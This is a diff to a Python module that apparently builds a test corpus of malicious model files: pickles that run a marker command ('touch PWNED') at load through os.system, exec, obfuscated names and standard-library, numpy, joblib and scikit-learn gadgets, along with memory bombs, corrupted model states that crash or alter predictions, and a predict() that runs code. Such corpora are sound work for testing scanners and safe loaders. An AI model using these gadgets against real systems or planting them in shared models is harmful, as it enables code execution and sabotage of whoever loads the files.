@@ -14,7 +14,19 @@ import sys
 import zipfile
 import zlib
 from dataclasses import dataclass, field
+from functools import partial
 from pathlib import Path
+
+import joblib
+import numpy as np
+import skops.io
+from joblib.numpy_pickle import NumpyArrayWrapper
+from numpy.testing import measure
+from onnx import TensorProto, helper
+from sklearn.linear_model import LogisticRegression
+from sklearn.tree import DecisionTreeClassifier
+
+from models import X, y
 
 COMMAND = "touch PWNED"
 CODE = "open('PWNED', 'w').close()"
@@ -49,40 +61,56 @@ class Payload:
 # --- a small assembler for pickles ------------------------------------------
 
 
-def text(value: str) -> bytes:
-    """Return the instructions that put a text on the stack."""
-    data = value.encode()
-    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data
+class Code(bytes):
+    """Instructions that leave one thing on the stack."""
 
 
-def raw(value: bytes) -> bytes:
-    """Return the instructions that put bytes on the stack."""
-    return pickle.BINBYTES + struct.pack("<I", len(value)) + value
+def put(value) -> Code:
+    """Return the instructions that put a value on the stack."""
+    match value:
+        case Code():
+            return value
+        case None:
+            return Code(pickle.NONE)
+        case str():
+            data = value.encode()
+            return Code(pickle.BINUNICODE + struct.pack("<I", len(data)) + data)
+        case bytes():
+            return Code(pickle.BINBYTES + struct.pack("<I", len(value)) + value)
+        case int():
+            return Code(pickle.BININT + struct.pack("<i", value))
+        case list():
+            items = b"".join(map(put, value))
+            return Code(
+                pickle.EMPTY_LIST + pickle.MARK + items + pickle.APPENDS
+            )
+        case tuple():
+            return Code(pickle.MARK + b"".join(map(put, value)) + pickle.TUPLE)
+        case dict():
+            items = [put(k) + put(v) + pickle.SETITEM for k, v in value.items()]
+            return Code(pickle.EMPTY_DICT + b"".join(items))
 
 
-def number(value: int) -> bytes:
-    """Return the instructions that put a number on the stack."""
-    return pickle.BININT + struct.pack("<i", value)
+def name(text: str) -> Code:
+    """Return the instructions that import "module:name"."""
+    module, _, attribute = text.partition(":")
+    return Code(put(module) + put(attribute) + pickle.STACK_GLOBAL)
 
 
-def listed(*items: bytes) -> bytes:
-    """Return the instructions that put a list of these on the stack."""
-    return pickle.EMPTY_LIST + pickle.MARK + b"".join(items) + pickle.APPENDS
+def call(function: str | Code, *arguments) -> Code:
+    """Return the instructions that call "module:name" or what is on top."""
+    function = function if isinstance(function, Code) else name(function)
+    return Code(function + put(arguments) + pickle.REDUCE)
 
 
-def named(module: str, name: str) -> bytes:
-    """Return the instructions that import module.name."""
-    return text(module) + text(name) + pickle.STACK_GLOBAL
+def new(kind: str, *arguments) -> Code:
+    """Return the instructions that make an object, without REDUCE."""
+    return Code(name(kind) + put(arguments) + pickle.NEWOBJ)
 
 
-def arguments(*items: bytes) -> bytes:
-    """Return the instructions that put a tuple of these on the stack."""
-    return pickle.MARK + b"".join(items) + pickle.TUPLE
-
-
-def call(function: bytes, *items: bytes) -> bytes:
-    """Return the instructions that call a function with these arguments."""
-    return function + arguments(*items) + pickle.REDUCE
+def build(thing: Code, state) -> Code:
+    """Return the instructions that set the state of a thing."""
+    return Code(thing + put(state) + pickle.BUILD)
 
 
 def whole(body: bytes) -> bytes:
@@ -90,501 +118,339 @@ def whole(body: bytes) -> bytes:
     return pickle.PROTO + b"\x04" + body + pickle.STOP
 
 
-def build(state: bytes) -> bytes:
-    """Return the instructions that set the state of what is on the stack."""
-    return state + pickle.BUILD
+EXEC = name("builtins:exec")
+TOUCH = whole(call("os:system", COMMAND))
+OS = call("importlib:import_module", "os")
 
+# --- pickles that run code while they load: name, what it does, instructions -
 
-SYSTEM = named("os", "system")
-EXEC = named("builtins", "exec")
-TOUCH = whole(call(SYSTEM, text(COMMAND)))
-OS = call(named("importlib", "import_module"), text("os"))
-
-
-# --- the payloads -----------------------------------------------------------
-
-
-def direct():
-    """Yield payloads that name what they call."""
-    for name, module in (("os.system", "os"), ("posix.system", "posix")):
-        yield (
-            name,
-            "a shell command",
-            call(named(module, "system"), text(COMMAND)),
-        )
-    yield "exec", "Python code as a text", call(EXEC, text(CODE))
-    yield (
+DIRECT = [
+    ("os.system", "a shell command", call("os:system", COMMAND)),
+    ("posix.system", "a shell command", call("posix:system", COMMAND)),
+    ("exec", "Python code as a text", call(EXEC, CODE)),
+    (
         "subprocess.run",
         "another program",
-        call(named("subprocess", "run"), listed(text("touch"), text("PWNED"))),
-    )
-    yield (
-        "open",
-        "creates a file",
-        call(named("builtins", "open"), text("PWNED"), text("w")),
-    )
-    yield (
+        call("subprocess:run", ["touch", "PWNED"]),
+    ),
+    ("open", "creates a file", call("builtins:open", "PWNED", "w")),
+    (
         "Path.touch",
         "creates a file, by a name with a dot",
-        call(
-            named("pathlib", "Path.touch"),
-            call(named("pathlib", "Path"), text("PWNED")),
-        ),
-    )
-    yield (
-        "sqlite3.connect",
-        "creates a file",
-        call(named("sqlite3", "connect"), text("PWNED")),
-    )
-    yield (
+        call("pathlib:Path.touch", call("pathlib:Path", "PWNED")),
+    ),
+    ("sqlite3.connect", "creates a file", call("sqlite3:connect", "PWNED")),
+    (
         "ctypes",
         "the C library's own system()",
         call(
             call(
-                call(named("operator", "attrgetter"), text("system")),
-                call(named("ctypes", "CDLL"), pickle.NONE),
+                call("operator:attrgetter", "system"), call("ctypes:CDLL", None)
             ),
-            raw(COMMAND.encode()),
+            COMMAND.encode(),
         ),
-    )
-
-
-def opcodes():
-    """Yield payloads that use other instructions than REDUCE."""
-    mapped = (
-        named("builtins", "map")
-        + arguments(EXEC, listed(text(CODE)))
-        + pickle.NEWOBJ
-    )
-    yield (
+    ),
+]
+SPACE = "types:SimpleNamespace"
+OPCODES = [
+    (
         "NEWOBJ",
         "tuple(map(exec, ...)), no REDUCE",
-        named("builtins", "tuple") + arguments(mapped) + pickle.NEWOBJ,
-    )
-    yield (
+        new("builtins:tuple", new("builtins:map", EXEC, [CODE])),
+    ),
+    (
         "BUILD",
         "gives an object a __setstate__ of its own",
-        named("types", "SimpleNamespace")
-        + pickle.EMPTY_TUPLE
-        + pickle.NEWOBJ
-        + build(
-            pickle.EMPTY_DICT + text("__setstate__") + SYSTEM + pickle.SETITEM
-        )
-        + build(text(COMMAND)),
-    )
-    yield (
+        build(build(new(SPACE), {"__setstate__": name("os:system")}), COMMAND),
+    ),
+    (
         "computed name",
         "the name is decoded while loading",
-        text("os")
-        + call(named("codecs", "decode"), text("flfgrz"), text("rot13"))
-        + pickle.STACK_GLOBAL
-        + arguments(text(COMMAND))
-        + pickle.REDUCE,
-    )
-    yield (
+        call(
+            Code(
+                put("os")
+                + call("codecs:decode", "flfgrz", "rot13")
+                + pickle.STACK_GLOBAL
+            ),
+            COMMAND,
+        ),
+    ),
+    (
         "extension registry",
         "registers os.system as number 66 first",
-        call(
-            named("copyreg", "add_extension"),
-            text("os"),
-            text("system"),
-            number(66),
-        )
-        + pickle.POP
-        + pickle.EXT1
-        + bytes([66])
-        + arguments(text(COMMAND))
-        + pickle.REDUCE,
-    )
-
-
-def indirect():
-    """Yield payloads that reach what they call through something else."""
-    yield (
+        Code(
+            call("copyreg:add_extension", "os", "system", 66)
+            + pickle.POP
+            + call(Code(pickle.EXT1 + bytes([66])), COMMAND)
+        ),
+    ),
+]
+DETOURS = [
+    (
         "getattr",
         "getattr(__import__('os'), 'system')",
         call(
             call(
-                named("builtins", "getattr"),
-                call(named("builtins", "__import__"), text("os")),
-                text("system"),
+                "builtins:getattr", call("builtins:__import__", "os"), "system"
             ),
-            text(COMMAND),
+            COMMAND,
         ),
-    )
-    yield (
+    ),
+    (
         "attrgetter",
         "operator.attrgetter('system')(os)",
-        call(
-            call(call(named("operator", "attrgetter"), text("system")), OS),
-            text(COMMAND),
-        ),
-    )
-    yield (
+        call(call(call("operator:attrgetter", "system"), OS), COMMAND),
+    ),
+    (
         "methodcaller",
         "operator.methodcaller('system', ...)(os)",
-        call(
-            call(
-                named("operator", "methodcaller"), text("system"), text(COMMAND)
-            ),
-            OS,
-        ),
-    )
-    yield (
+        call(call("operator:methodcaller", "system", COMMAND), OS),
+    ),
+    (
         "partial",
         "functools.partial(os.system, ...)()",
-        call(call(named("functools", "partial"), SYSTEM, text(COMMAND))),
-    )
-    yield (
+        call(call("functools:partial", name("os:system"), COMMAND)),
+    ),
+    (
         "resolve_name",
         "pkgutil.resolve_name('os:system')",
-        call(
-            call(named("pkgutil", "resolve_name"), text("os:system")),
-            text(COMMAND),
-        ),
-    )
-    yield (
+        call(call("pkgutil:resolve_name", "os:system"), COMMAND),
+    ),
+    (
         "coded text",
         "exec of a text in rot13",
         call(
-            EXEC,
-            call(
-                named("codecs", "decode"),
-                text(codecs.encode(CODE, "rot13")),
-                text("rot13"),
-            ),
+            EXEC, call("codecs:decode", codecs.encode(CODE, "rot13"), "rot13")
         ),
-    )
-    yield (
+    ),
+    (
         "nested pickle",
         "pickle.loads of a second pickle",
-        call(named("pickle", "loads"), raw(TOUCH)),
-    )
-
-
-def gadgets():
-    """Yield payloads that use the standard library's lesser known parts."""
-    yield (
-        "timeit",
-        "timeit.timeit runs its text",
-        call(named("timeit", "timeit"), text("0"), text(CODE)),
-    )
-    yield (
-        "cProfile",
-        "cProfile.run runs its text",
-        call(named("cProfile", "run"), text(CODE)),
-    )
-    yield (
+        call("pickle:loads", TOUCH),
+    ),
+]
+INTERPRETER = "code:InteractiveInterpreter"
+LIBRARY = [
+    ("timeit", "runs its text", call("timeit:timeit", "0", CODE)),
+    ("cProfile", "runs its text", call("cProfile:run", CODE)),
+    (
         "bdb",
         "the debugger runs its text",
-        call(named("bdb", "Bdb.run"), call(named("bdb", "Bdb")), text(CODE)),
-    )
-    yield (
+        call("bdb:Bdb.run", call("bdb:Bdb"), CODE),
+    ),
+    (
         "code",
         "the interactive interpreter runs its text",
-        call(
-            named("code", "InteractiveInterpreter.runsource"),
-            call(named("code", "InteractiveInterpreter")),
-            text(CODE),
-        ),
-    )
-    yield (
+        call(f"{INTERPRETER}.runsource", call(INTERPRETER), CODE),
+    ),
+    (
         "pydoc",
         "the help viewer starts a shell",
-        call(named("pydoc", "pipepager"), text(""), text(COMMAND)),
-    )
-    yield (
+        call("pydoc:pipepager", "", COMMAND),
+    ),
+    (
         "spawnv",
         "multiprocessing starts a program",
         call(
-            named("multiprocessing.util", "spawnv_passfds"),
-            raw(b"/bin/sh"),
-            listed(raw(b"sh"), raw(b"-c"), raw(COMMAND.encode())),
-            listed(number(1)),
+            "multiprocessing.util:spawnv_passfds",
+            b"/bin/sh",
+            [b"sh", b"-c", COMMAND.encode()],
+            [1],
         ),
-    )
-
-
-def scientific():
-    """Yield payloads that name numpy, joblib and scikit-learn alone."""
-    yield (
-        "numpy measure",
-        "numpy.testing.measure runs its text",
-        call(named("numpy.testing", "measure"), text(CODE)),
-    )
-    yield (
+    ),
+]
+SCIENTIFIC = [
+    ("numpy measure", "runs its text", call("numpy.testing:measure", CODE)),
+    (
         "numpy f2py",
-        "myeval evaluates its text",
-        call(named("numpy.f2py.crackfortran", "myeval"), text(CODE)),
-    )
-    yield (
-        "numpy savetxt",
-        "creates a file",
-        call(named("numpy", "savetxt"), text("PWNED"), listed(number(1))),
-    )
-    yield (
-        "joblib dump",
-        "creates a file",
-        call(named("joblib", "dump"), number(1), text("PWNED")),
-    )
-    yield (
+        "evaluates its text",
+        call("numpy.f2py.crackfortran:myeval", CODE),
+    ),
+    ("numpy savetxt", "creates a file", call("numpy:savetxt", "PWNED", [1])),
+    ("joblib dump", "creates a file", call("joblib:dump", 1, "PWNED")),
+    (
         "joblib loads",
         "joblib's own name for pickle.loads",
-        call(
-            named("joblib.externals.loky.backend.reduction", "loads"),
-            raw(TOUCH),
-        ),
-    )
-    yield (
+        call("joblib.externals.loky.backend.reduction:loads", TOUCH),
+    ),
+    (
         "sklearn, dotted",
         "os.system, through a module that imports os",
-        call(named("sklearn.datasets._base", "os.system"), text(COMMAND)),
-    )
-    getter = named("sklearn.feature_selection._base", "attrgetter")
-    module = named("sklearn.utils.discovery", "import_module")
-    yield (
+        call("sklearn.datasets._base:os.system", COMMAND),
+    ),
+    (
         "sklearn, no dots",
         "attrgetter and import_module, as scikit-learn imports them",
         call(
-            call(call(getter, text("system")), call(module, text("os"))),
-            text(COMMAND),
+            call(
+                call("sklearn.feature_selection._base:attrgetter", "system"),
+                call("sklearn.utils.discovery:import_module", "os"),
+            ),
+            COMMAND,
         ),
-    )
-    getter = named("sklearn.feature_extraction.text", "itemgetter")
-    yield (
+    ),
+    (
         "sklearn, builtins",
         "exec, out of a module's __builtins__",
         call(
             call(
-                call(getter, text("exec")),
-                named("sklearn.base", "__builtins__"),
+                call("sklearn.feature_extraction.text:itemgetter", "exec"),
+                name("sklearn.base:__builtins__"),
             ),
-            text(CODE),
+            CODE,
         ),
-    )
+    ),
+]
 
 
 def pickles():
     """Yield the Payloads whose pickle is whole and runs at load."""
     families = {
-        "direct call": direct,
-        "other instruction": opcodes,
-        "detour": indirect,
-        "standard library": gadgets,
-        "scientific stack": scientific,
+        "direct call": DIRECT,
+        "other instruction": OPCODES,
+        "detour": DETOURS,
+        "standard library": LIBRARY,
+        "scientific stack": SCIENTIFIC,
     }
-    for family, make in families.items():
-        for name, about, body in make():
-            yield Payload(name, family, about, whole(body))
+    for family, payloads in families.items():
+        for title, about, body in payloads:
+            yield Payload(title, family, about, whole(body))
 
 
 def framed():
-    """Yield Payloads in old, broken, compressed or nested files."""
+    """Yield Payloads in old, broken or odd streams."""
+
+    def payload(title, about, data, **more):
+        return Payload(title, "framing", about, data, **more)
+
     old = b"cos\nsystem\n(S'touch PWNED'\ntR."
-    yield Payload("protocol 0", "framing", "GLOBAL, in plain text", old)
+    yield payload("protocol 0", "GLOBAL, in plain text", old)
     old = b"(S'touch PWNED'\nios\nsystem\n."
-    yield Payload("INST", "framing", "the oldest way to call", old)
+    yield payload("INST", "the oldest way to call", old)
     old = b"(cos\nsystem\nS'touch PWNED'\no."
-    yield Payload("OBJ", "framing", "the second oldest way to call", old)
-    old = b"c__builtin__\neval\n" + arguments(text(CODE)) + b"R."
-    yield Payload("Python 2 name", "framing", "__builtin__ is mapped", old)
-    yield Payload(
-        "broken stream",
-        "framing",
-        "runs, then the pickle ends in garbage",
-        TOUCH[:-1] + b"0\xff\xff\xff",
-    )
-    yield Payload(
+    yield payload("OBJ", "the second oldest way to call", old)
+    old = b"c__builtin__\neval\n" + put((CODE,)) + b"R."
+    yield payload("Python 2 name", "__builtin__ is mapped", old)
+    cut = TOUCH[:-1] + b"0\xff\xff\xff"
+    yield payload("broken stream", "runs, then ends in garbage", cut)
+    yield payload(
         "import",
-        "framing",
         "names a module that lies beside the file",
-        whole(named("beside", "x")),
+        whole(name("beside:x")),
         beside={"beside.py": f"{CODE}\nx = 1\n".encode()},
     )
-    yield Payload(
-        "joblib zlib", "container", "compressed", zlib.compress(TOUCH),
-        suffix="joblib",
-    )  # fmt: skip
-    yield Payload(
-        "joblib lzma",
-        "container",
-        "compressed",
-        lzma.compress(TOUCH, format=lzma.FORMAT_ALONE),
-        suffix="joblib",
-    )
+
+
+def containers():
+    """Yield Payloads in compressed files and arrays of objects."""
+
+    def payload(title, about, data, suffix, **more):
+        return Payload(title, "container", about, data, "ran", suffix, **more)
+
+    data = zlib.compress(TOUCH)
+    yield payload("joblib zlib", "compressed", data, "joblib")
+    data = lzma.compress(TOUCH, format=lzma.FORMAT_ALONE)
+    yield payload("joblib lzma", "compressed", data, "joblib")
     header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
     header = header.ljust(117) + b"\n"
     npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + TOUCH
-    yield Payload("npy", "container", "an object array", npy, suffix="npy")
+    yield payload("npy", "an array of objects", npy, "npy")
     archive = io.BytesIO()
     with zipfile.ZipFile(archive, "w") as file:
         file.writestr("a.npy", npy)
-    yield Payload(
-        "npz", "container", "an object array", archive.getvalue(), suffix="npz"
-    )
-    yield Payload(
+    yield payload("npz", "an array of objects", archive.getvalue(), "npz")
+    yes = Code(pickle.NEWTRUE)
+    yield payload(
         "numpy.load",
-        "container",
         "loads a second file beside it",
-        whole(
-            call(
-                named("numpy", "load"),
-                text("second.npy"),
-                pickle.NONE,
-                pickle.NEWTRUE,
-            )
-        ),
+        whole(call("numpy:load", "second.npy", None, yes)),
+        "pkl",
         beside={"second.npy": TOUCH},
     )
+    wrapper = NumpyArrayWrapper(np.ndarray, (1,), "C", np.dtype("O"))
+    # Without its STOP, the inner pickle stands where joblib reads the array.
+    data = pickle.dumps(wrapper, protocol=3)[:-1] + TOUCH + pickle.STOP
+    yield payload("joblib inner", "a pickle within the pickle", data, "joblib")
 
 
 def greedy():
-    """Yield Payloads that use up time, memory or the stack, with no name."""
-    body, last = pickle.EMPTY_TUPLE + pickle.MEMOIZE, 0
+    """Yield Payloads that use up time, memory or the stack."""
+
+    def payload(title, about, data, effect="exhausted", suffix="pkl"):
+        return Payload(title, "resources", about, data, effect, suffix)
+
+    body = pickle.EMPTY_TUPLE + pickle.MEMOIZE
     for last in range(40):
         twice = 2 * (pickle.BINGET + bytes([last]))
         body += pickle.POP + twice + pickle.TUPLE2 + pickle.MEMOIZE
-    yield Payload(
-        "hash bomb",
-        "resources",
-        "a dictionary key of 2**40 parts",
-        whole(pickle.EMPTY_DICT + body + pickle.NONE + pickle.SETITEM),
-        effect="exhausted",
-    )
-    yield Payload(
-        "deep key",
-        "resources",
-        "a dictionary key nested 400,000 deep",
-        whole(
-            pickle.EMPTY_DICT
-            + pickle.EMPTY_TUPLE
-            + pickle.TUPLE1 * 400_000
-            + pickle.NONE
-            + pickle.SETITEM
-        ),
-        effect="crashed",
-    )
-    place = struct.pack("<I", 90_000_000)
-    yield Payload(
-        "memo bomb",
-        "resources",
-        "9 bytes ask for more than a gigabyte",
-        whole(pickle.NONE + pickle.LONG_BINPUT + place),
-        effect="exhausted",
-    )
-    yield Payload(
-        "numpy.ones",
-        "resources",
-        "an array of more than a gigabyte",
-        whole(call(named("numpy", "ones"), number(180_000_000))),
-        effect="exhausted",
-    )
+    data = whole(put({Code(body): None}))
+    yield payload("hash bomb", "a dictionary key of 2**40 parts", data)
+    deep = Code(pickle.EMPTY_TUPLE + pickle.TUPLE1 * 400_000)
+    data = whole(put({deep: None}))
+    yield payload("deep key", "a key nested 400,000 deep", data, "crashed")
+    place = pickle.LONG_BINPUT + struct.pack("<I", 90_000_000)
+    data = whole(pickle.NONE + place)
+    yield payload("memo bomb", "9 bytes ask for over a gigabyte", data)
+    data = whole(call("numpy:ones", 180_000_000))
+    yield payload("numpy.ones", "an array of over a gigabyte", data)
+    file = io.BytesIO()
+    joblib.dump(np.zeros(130_000_000), file, compress=("zlib", 1))
+    about = "a small file, a gigabyte when unpacked"
+    yield payload("zip bomb", about, file.getvalue(), suffix="joblib")
+
+
+class Crafted:
+    """Pickles as what a __reduce__ of our choice returns."""
+
+    def __init__(self, *reduced):
+        """Take the function, its arguments, and what else is to be done."""
+        self.reduced = reduced
+
+    def __reduce__(self) -> tuple:
+        """Return what loading shall do."""
+        return self.reduced
 
 
 def semantic():
-    """Yield Payloads that are well-formed models and lie."""
-    from sklearn.linear_model import LogisticRegression
-    from sklearn.tree import DecisionTreeClassifier
+    """Yield Payloads that name what ordinary models name, and lie."""
 
-    from models import X, y
+    def payload(title, about, data, effect):
+        return Payload(title, "the model itself", about, data, effect)
 
     model = LogisticRegression(max_iter=500).fit(X, y)
     model.coef_, model.intercept_ = -model.coef_, -model.intercept_
-    yield Payload(
-        "weights",
-        "the model itself",
-        "coefficients with the sign changed",
-        pickle.dumps(model, protocol=5),
-        effect="changed",
-    )
+    data = pickle.dumps(model, protocol=5)
+    yield payload("weights", "the sign of each is changed", data, "changed")
     tree = DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y)
     make, how, state = tree.tree_.__reduce__()
     state["nodes"]["left_child"][0] = state["nodes"]["right_child"][0] = 2**40
 
-    class Crafted:
-        def __reduce__(self):
-            return make, how, state
-
-    vars(tree)["tree_"] = Crafted()
-    yield Payload(
-        "tree",
-        "the model itself",
-        "a tree whose branches lead out of its memory",
-        pickle.dumps(tree, protocol=5),
-        effect="crashed",
-    )
-    yield Payload(
-        "class",
-        "the model itself",
-        "changes a class for the whole process",
-        whole(
-            named("sklearn.gaussian_process.kernels", "RBF")
-            + build(
-                pickle.NONE
-                + pickle.EMPTY_DICT
-                + text("__call__")
-                + pickle.NONE
-                + pickle.SETITEM
-                + pickle.TUPLE2
-            )
-        ),
-        effect="changed",
-    )
+    vars(tree)["tree_"] = Crafted(make, how, state)
+    data = pickle.dumps(tree, protocol=5)
+    yield payload("tree", "its branches lead out of it", data, "crashed")
+    rebuild = np.zeros(1).__reduce_ex__(5)[0]
+    long, last = (2**43,), [(2**43 - 1, 0.0)]
+    state = (3, "|", (np.dtype(float), long), None, None, 8, 1, 0)
+    kind = Crafted(np.dtype, ("V8", False, True), state)
+    filled = (bytearray(8), kind, long, "C"), None, None, iter(last)
+    data = pickle.dumps(Crafted(rebuild, *filled), protocol=5)
+    yield payload("array", "writes outside its memory", data, "crashed")
+    poison = name("sklearn.gaussian_process.kernels:RBF")
+    data = whole(build(poison, (None, {"__call__": None})))
+    yield payload("class", "changed for the whole process", data, "changed")
     later = call(
-        named("sklearn.ensemble._bagging", "partial"),
-        named("numpy.testing", "measure"),
-        text(CODE),
-        number(1),
+        "sklearn.ensemble._bagging:partial",
+        name("numpy.testing:measure"),
+        CODE,
+        1,
     )
-    yield Payload(
-        "at predict",
-        "the model itself",
-        "loads well; its predict() runs code",
-        whole(
-            named("sklearn.linear_model._logistic", "LogisticRegression")
-            + pickle.EMPTY_TUPLE
-            + pickle.NEWOBJ
-            + build(pickle.EMPTY_DICT + text("predict") + later + b"s")
-        ),
-    )
-
-
-def joblib_files():
-    """Yield Payloads that need joblib to be written."""
-    import joblib
-    import numpy as np
-    from joblib.numpy_pickle import NumpyArrayWrapper
-
-    wrapper = NumpyArrayWrapper(np.ndarray, (1,), "C", np.dtype("O"))
-    # Without its frame and STOP, the inner pickle follows where joblib reads.
-    outer = pickle.dumps(wrapper, protocol=3)[:-1]
-    yield Payload(
-        "joblib inner",
-        "container",
-        "a second pickle in an object array",
-        outer + TOUCH + pickle.STOP,
-        suffix="joblib",
-    )
-    file = io.BytesIO()
-    joblib.dump(np.zeros(130_000_000), file, compress=("zlib", 3))
-    yield Payload(
-        "zip bomb",
-        "resources",
-        "a small file, a gigabyte when unpacked",
-        file.getvalue(),
-        effect="exhausted",
-        suffix="joblib",
-    )
+    model = new("sklearn.linear_model._logistic:LogisticRegression")
+    data = whole(build(model, {"predict": later}))
+    yield payload("at predict", "loads; its predict() runs code", data, "ran")
 
 
 def skops_files():
     """Yield Payloads in skops' format, which is not a pickle."""
-    from functools import partial
-
-    import skops.io
-    from numpy.testing import measure
-    from sklearn.linear_model import LogisticRegression
-
     model = LogisticRegression()
     vars(model)["predict"] = partial(measure, CODE, 1)
     yield Payload(
@@ -598,7 +464,6 @@ def skops_files():
 
 def onnx_files():
     """Yield Payloads in ONNX, which is not a pickle."""
-    from onnx import TensorProto, helper
 
     def value(name, kind=TensorProto.FLOAT, shape=(None, 4)):
         return helper.make_tensor_value_info(name, kind, shape)
@@ -627,11 +492,9 @@ def onnx_files():
 
 def corpus() -> list[Payload]:
     """Return all payloads, built anew."""
-    makers = pickles, framed, greedy, semantic
-    makers += joblib_files, skops_files, onnx_files
-    made = [payload for make in makers for payload in make()]
-    families = list(dict.fromkeys(payload.family for payload in made))
-    return sorted(made, key=lambda payload: families.index(payload.family))
+    makers = pickles, framed, containers, greedy, semantic
+    makers += skops_files, onnx_files
+    return [payload for make in makers for payload in make()]
 
 
 def refuse_other_folders(*programs: str):
